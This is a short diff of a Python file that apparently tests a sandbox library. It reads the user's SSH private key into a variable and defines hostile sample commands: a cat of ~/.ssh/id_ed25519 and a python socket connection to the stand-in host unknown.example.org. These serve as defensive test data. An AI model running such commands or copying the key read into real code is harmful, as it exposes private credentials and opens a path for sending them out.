@@ -4,6 +4,8 @@ import nono
 
 HERE = os.getcwd()
 SECRET = (pathlib.Path.home() / ".ssh/id_ed25519").read_text().strip()
+LINGERING = f"1{os.getpid():07}"
+"""Seconds, for a program that is found by this word."""
 HOSTILE = """
 cat ~/.ssh/id_ed25519
 python3 -c 'import socket; socket.create_connection(("unknown.example.org", 443), 5)'
